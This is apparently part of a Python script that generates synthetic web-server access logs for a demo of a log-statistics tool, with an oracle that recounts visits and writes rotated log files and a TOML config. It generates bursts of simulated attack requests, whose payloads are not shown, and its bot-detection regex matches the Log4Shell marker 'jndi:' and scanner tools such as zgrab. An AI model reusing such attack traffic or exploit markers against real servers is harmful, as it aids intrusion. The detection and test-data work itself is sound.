        for at in range(row.first, END + 1, row.every):
            yield Line(at, row.client, row.agent, request, 200, size)


def office_lines(rng: random.Random, library: Library) -> Iterator[Line]:
    """Yield the lines of the editors, who read their own articles."""
    for day in range(1, 22):
        for _ in range(5 if day % 7 in (0, 1) else OFFICE_LINES):
            at = rng.randint(moment(day, "07:20:00"), moment(day, "17:40:00"))
            client, name = rng.choice(DESKS)
            path = library.page(rng, rng.choice(("home", "article", "section")), at)
            request = f"GET {path} {AGENTS[name].protocol}"
            yield Line(at, client, AGENTS[name].text, request, 200, size_of(path), f"{ORIGIN}/")


def attack_lines(rng: random.Random) -> Iterator[Line]:
    """Yield the lines of the attacks."""
    for burst in BURSTS:
        at = moment(burst.day, burst.clock)
        for request, status, size, referer in ATTACKS * burst.rounds:
            agent = "-" if request in BARE else burst.agent
            yield Line(at, burst.client, agent, request, status, size, referer)
            at += rng.choice((0, 0, 1, 1, 2))


def all_lines(rng: random.Random, plan: Plan) -> list[tuple[int, bytes]]:
    """Return every line with the second in which it was written, in the order of the log."""
    library = Library(rng)
    made = [line for walk in plan.walks for line in walk_lines(rng, library, walk)]
    made += stray_lines(rng, plan.walks)
    made += bot_lines(rng, library)
    made += monitor_lines()
    made += office_lines(rng, library)
    made += attack_lines(rng)
    written = [(line.at + line.took, line.text()) for line in made]
    written += [(moment(day, clock), junk) for day, clock, junk in DAMAGED]
    return sorted((pair for pair in written if pair[0] <= END), key=lambda pair: pair[0])


# --- The oracle: the figures by their definition, from the lines alone ------------------------

COMBINED = re.compile(
    rb'(\S+) \S+ .+? \[([^]"]+)\] "((?:[^"\\]|\\.)*)" (\d{3}) (?:\d+|-)'
    rb' "(?:[^"\\]|\\.)*" "((?:[^"\\]|\\.)*)"'
)
ASSET = re.compile(
    r"\.(css|m?js|map|json|xml|txt|ico|png|jpe?g|gif|webp|avif|svg|bmp|woff2?|ttf|eot|otf"
    r"|mp[34]|webm|ogg|avi|mov|rss|atom)$|(^|/)(feed|rss)/?$",
    re.IGNORECASE,
)
MACHINE = re.compile(
    r"^-?$|(?<!cu)bot|crawl|spider|headless|python|go-http|okhttp|curl|zgrab|jndi:|\+http://"
    r"|googleother|^mozilla/[45]\.0 ?\(compatible(?!.*(msie|konqueror|trident))"
    r"|^(?!mozilla/[45]\.0 |opera/[89]\.)",
    re.IGNORECASE,
)
INTERNAL = ("127.0.0.0/8", "::1/128", OFFICE)


class Hit(NamedTuple):
    """The fields of a line that the oracle needs."""

    at: datetime
    visitor: tuple[str, str]
    path: str
    kind: str


@dataclass
class Figures:
    """The figures of the lines."""

    kinds: Counter[str] = field(default_factory=Counter)
    views: int = 0
    online: int = 0
    today: int = 0
    week: int = 0
    all_time: int = 0
    days: Counter[int] = field(default_factory=Counter)
    paths: Counter[str] = field(default_factory=Counter)

    def articles(self) -> list[tuple[str, int]]:
        """Return the articles with their page views, most read first."""
        rows = [row for row in self.paths.items() if re.search(r"-\d{6}$", row[0])]
        return sorted(rows, key=lambda row: (-row[1], row[0]))


@cache
def internal(client: str) -> bool:
    """Whether a client IP is the server's own or the office's."""
    return any(ipaddress.ip_address(client) in ipaddress.ip_network(row) for row in INTERNAL)


@cache
def machine(agent: str) -> bool:
    """Whether an agent is a bot's."""
    return MACHINE.search(agent) is not None


def kind_of(client: str, agent: str, request: str, status: int) -> str:
    """Return the class of a hit: internal, bot, asset, other or page view."""
    method, _, rest = request.partition(" ")
    path = re.sub(r" HTTP/[\d.]+$", "", rest).partition("?")[0]
    if internal(client):
        return "internal"
    if machine(agent):
        return "bot"
    if ASSET.search(path):
        return "asset"
    got = method == "GET" and (200 <= status < 300 or status == 304)
    return "page view" if got else "other"


def read(line: bytes) -> Hit | None:
    """Return the hit of a line, None if the line is not in the combined format."""
    match = COMBINED.fullmatch(line)
    if not match:
        return None
    client, time, request, status, agent = (part.decode("ascii") for part in match.groups())
    at = datetime.strptime(time, "%d/%b/%Y:%H:%M:%S %z")
    path = re.sub(r" HTTP/[\d.]+$", "", request.partition(" ")[2])
    return Hit(at, (client, agent), path, kind_of(client, agent, request, int(status)))


def canonical(path: str) -> str:
    """Return the canonical form of a path, as far as this sample needs it."""
    bare = re.split("[?#;]", path)[0]
    return unicodedata.normalize("NFC", unquote(re.sub("/+", "/", bare))).rstrip("/")


def visits_of(moments: Iterable[datetime]) -> Iterator[tuple[datetime, datetime]]:
    """Yield the first and last page view of each visit of one visitor."""
    first = last = None
    for at in sorted(moments):
        if first is None or last is None:
            first = at
        elif at - last > timedelta(minutes=30):
            yield first, last
            first = at
        last = at
    if first is not None and last is not None:
        yield first, last


def figures(lines: Iterable[bytes], at: datetime) -> Figures:
    """Return the figures at a time; `kinds` counts all lines, the others only those up to it."""
    found, views = Figures(all_time=BASELINE), defaultdict[tuple[str, str], list[datetime]](list)
    for line in lines:
        hit = read(line)
        found.kinds[hit.kind if hit else "reject"] += 1
        if hit and hit.kind == "page view" and hit.at <= at:
            found.views += 1
            views[hit.visitor].append(hit.at)
            found.paths[canonical(hit.path)] += 1
    midnight = at.replace(hour=0, minute=0, second=0)
    monday = midnight - timedelta(days=at.weekday())
    for moments in views.values():
        for first, _ in visits_of(moments):
            found.all_time += 1
            found.days[first.astimezone(at.tzinfo).day] += 1
            found.today += first >= midnight
            found.week += first >= monday
        found.online += sum(at - last <= timedelta(minutes=10) for _, last in visits_of(moments))
    return found


def differences(found: Figures, plan: Plan) -> list[str]:
    """Return a message for each figure that differs from the expected one."""
    rows = [
        ("online", found.online, ONLINE),
        ("today", found.today, TODAY),
        ("this week", found.week, WEEK),
        ("all time", found.all_time, ALL_TIME),
        ("rejects", found.kinds["reject"], len(DAMAGED)),
        ("page views", found.views, sum(view <= T for walk in plan.walks for view in walk.views)),
        *((f"day {day}", found.days[day], n) for day, n in enumerate(VISITS_PER_DAY, 1)),
    ]
    return [f"{name}: {is_}, promised {should}" for name, is_, should in rows if is_ != should]


# --- Files ------------------------------------------------------------------------------------

CONFIG = f"""\
# The settings for the sample: a month of a made-up portal. Try them with
#     logstats --config sample_logs/portal/logstats.toml update

# The moment the demo's figures are for, in the site's own time. Leave it out to mean now.
at = "2026-11-21T10:00:00"

[[site]]
# What the portal is called in reports.
name = "{SITE}"

# Where its days begin and end.
timezone = "Asia/Ho_Chi_Minh"

# Its logs, relative to this file: the live one and all that were rotated away.
logs = ["access.log*"]

# The shape of a line: Apache's "combined".
format = "combined"

# What the old counter said when logstats took over. All time goes on from there.
baseline = {BASELINE}
baseline_on = 2026-11-01

# Addresses that are no visitors: the server itself, and the office with its editors.
internal = ["127.0.0.0/8", "::1/128", "{OFFICE}"]
"""


def name_of(written: int) -> str:
    """Return the name of the file that has a line after all later rotations."""
    age = len(ROTATIONS) - bisect_right(ROTATIONS, written)
    return "access.log" + (f".{age}" if age else "") + (".gz" if age > 1 else "")


def packed(name: str, content: bytes) -> bytes:
    """Return the content as it is on disk; an archive holds neither a name nor a time."""
    if not name.endswith(".gz"):
        return content
    target = io.BytesIO()
    with gzip.GzipFile("", "wb", 9, target, mtime=0) as archive:
        archive.write(content)
    return target.getvalue()


def portal_files(written: Sequence[tuple[int, bytes]]) -> dict[str, bytes]:
    """Split the log at its rotations: return the content of each file by name, the live one last."""
    files: dict[str, list[bytes]] = defaultdict(list)
    for second, line in written:
        files[name_of(second)].append(line + b"\n")
    return {name: packed(name, b"".join(lines)) for name, lines in files.items()}


def write(out: Path, portal: dict[str, bytes]) -> None:
    """Write all files, and remove the logs of an earlier run."""
    for folder in ("portal", "formats"):
        (out / folder).mkdir(parents=True, exist_ok=True)
    for old in (out / "portal").glob("access.log*"):
        old.unlink()
    for name, content in portal.items():
        (out / "portal" / name).write_bytes(content)
    (out / "portal" / "logstats.toml").write_bytes(CONFIG.encode())
    for name in FORMATS:
        (out / "formats" / f"{name}.log").write_bytes(showcase(name))


def summary(written: Sequence[tuple[int, bytes]], found: Figures, sizes: dict[str, int]) -> str:
    """Return a summary of the files and figures, to be printed."""
    per_file: dict[str, Counter[bool]] = defaultdict(Counter)
    for second, line in written:
        per_file[name_of(second)][COMBINED.fullmatch(line) is not None] += 1
    rows = [f"{'file':<18}{'bytes':>9}{'hits':>7}{'rejects':>9}"]
    rows += [f"{n:<18}{sizes[n]:>9,}{c[True]:>7,}{c[False]:>9}" for n, c in per_file.items()]
    rows += [f"{'all':<18}{sum(sizes.values()):>9,}{len(written):>7,} lines", ""]
    rows += [f"{kind:<18}{n:>9,}" for kind, n in sorted(found.kinds.items())]
    rows += ["", f"online {found.online}, today {found.today}, week {found.week:,},"]
    rows += [
        f"all time {found.all_time:,}; {found.views:,} page views up to 21 November, 10:00",
        "",
    ]
    rows += [f"{n:>6,} {path}" for path, n in found.articles()[:10]]
    return "\n".join(rows)


def main() -> int:
    """Plan the visits, generate and check the lines, then write the files; return the exit code."""
    parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
    parser.add_argument("--out", type=Path, default=Path(__file__).parent, metavar="DIR")
    out: Path = parser.parse_args().out

    rng = random.Random(SEED)
    plan = make_plan(rng)
    written = all_lines(rng, plan)
    found = figures((line for _, line in written), datetime.fromisoformat("2026-11-21T10:00:00+07:00"))
    portal = portal_files(written)
    sizes = {name: len(content) for name, content in portal.items()}
    wrong = differences(found, plan)
    if sum(sizes.values()) + len(CONFIG.encode()) > MAX_BYTES:
        wrong.append(f"portal/: {sum(sizes.values()):,} bytes, at most {MAX_BYTES:,}")
    if wrong:
        print("nothing written:", *wrong, sep="\n  ", file=sys.stderr)
        return 1
    write(out, portal)
    print(summary(written, found, sizes))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
